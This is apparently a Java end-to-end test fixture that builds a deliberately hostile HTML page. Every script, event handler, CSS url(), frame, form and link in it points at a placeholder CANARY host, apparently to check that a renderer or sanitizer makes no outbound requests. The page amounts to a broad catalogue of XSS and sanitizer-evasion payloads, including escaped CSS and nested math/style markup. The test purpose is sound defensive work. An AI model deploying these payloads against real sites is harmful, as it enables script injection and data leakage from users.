package org.minhchung.local.endtoend;

/** A page that tries in every way to run, to load or to lead somewhere. */
final class HostilePage {
  private HostilePage() {}

  /**
   * The page.
   *
   * @param host that counts who asks it
   */
  static String html(String host) {
    return """
    <!doctype html><html manifest="http://CANARY/1"><head>
    <meta http-equiv="refresh" content="0;url=http://CANARY/2">
    <meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
    <base href="http://CANARY/base/">
    <link rel="stylesheet" href="http://CANARY/3"><link rel="dns-prefetch" href="//CANARY">
    <link rel="preload" as="image" href="http://CANARY/4"><link rel="icon" href="http://CANARY/5">
    <link rel="preconnect" href="http://CANARY"><link rel="prefetch" href="http://CANARY/6">
    <script>fetch('http://CANARY/7'); new Image().src='http://CANARY/8'; top.location='http://CANARY/9'</script>
    <script src="http://CANARY/10"></script>
    <style>@import "http://CANARY/11"; body { background: url(http://CANARY/12) }
    p { background: u\\72l(http://CANARY/13); cursor: url(http://CANARY/14), auto }
    @font-face { font-family: x; src: url(http://CANARY/15) } h1 { font-family: x; content: url(//CANARY/16) }
    li { list-style-image: image-set("http://CANARY/17" 1x) } </style>
    </head><body background="http://CANARY/18" onload="fetch('http://CANARY/19')" onpageshow="fetch('http://CANARY/19b')">
    <h1 onmouseover="fetch('http://CANARY/20')">Harmless text</h1>
    <p style="background-image:url(http://CANARY/21);border-image:url('http://CANARY/22')">x</p>
    <img src="http://CANARY/23"><img src=x onerror="fetch('http://CANARY/24')">
    <img srcset="http://CANARY/25 1x" loading=eager><picture><source srcset="http://CANARY/26"><img></picture>
    <svg onload="fetch('http://CANARY/27')" xmlns="http://www.w3.org/2000/svg"><image href="http://CANARY/28"/>
    <use href="http://CANARY/29#x"/><script>fetch('http://CANARY/30')</script><style>*{fill:url(http://CANARY/30b)}</style>
    <foreignObject><img src="http://CANARY/31"></foreignObject><animate onbegin="fetch('http://CANARY/32')"/></svg>
    <math><mtext><table><mglyph><style><img src=x onerror="fetch('http://CANARY/33')"></style></mglyph></table></mtext></math>
    <iframe src="http://CANARY/34"></iframe><iframe srcdoc="<img src=http://CANARY/35><script>fetch('http://CANARY/36')</script>"></iframe>
    <iframe src="javascript:fetch('http://CANARY/37')"></iframe><frameset><frame src="http://CANARY/38"></frameset>
    <object data="http://CANARY/39"><embed src="http://CANARY/40"></object><applet code="http://CANARY/41"></applet>
    <video autoplay poster="http://CANARY/42" src="http://CANARY/43"><track default src="http://CANARY/44"></video>
    <audio autoplay src="http://CANARY/45"></audio>
    <form id=f action="http://CANARY/46" method=post><input name=a autofocus onfocus="fetch('http://CANARY/47')"><button>send it</button>
    <input type=image src="http://CANARY/48"><button formaction="http://CANARY/49">or here</button></form>
    <a href="javascript:fetch('http://CANARY/50')">one way</a> <a href="http://CANARY/51" ping="http://CANARY/52" target=_top>another</a>
    <a href="data:text/html,<script>fetch('http://CANARY/53')</script>">a third</a>
    <details open ontoggle="fetch('http://CANARY/54')"><summary>more</summary>x</details>
    <noscript><img src="http://CANARY/55"><style>p{background:url(http://CANARY/56)}</style></noscript>
    <table background="http://CANARY/57"><tr><td background="http://CANARY/58">x</td></tr></table>
    <template><img src="http://CANARY/59"></template><portal src="http://CANARY/60"></portal>
    <map name=m><area href="http://CANARY/61" shape=default></map><marquee onstart="fetch('http://CANARY/62')">x</marquee>
    <input type=text style="background:url(http://CANARY/63)" value=x><!--><img src="http://CANARY/64">-->
    <div style="position:fixed;inset:0"><a href="http://CANARY/65"><span>everything is a link</span></a></div>
    </style><img src="http://CANARY/66"></title><img src="http://CANARY/67">
    <blockquote cite="http://CANARY/68">x</blockquote><q cite="http://CANARY/69">x</q><label for=f>x</label>
    </body></html>
    """
        .replace("CANARY", host);
  }
}
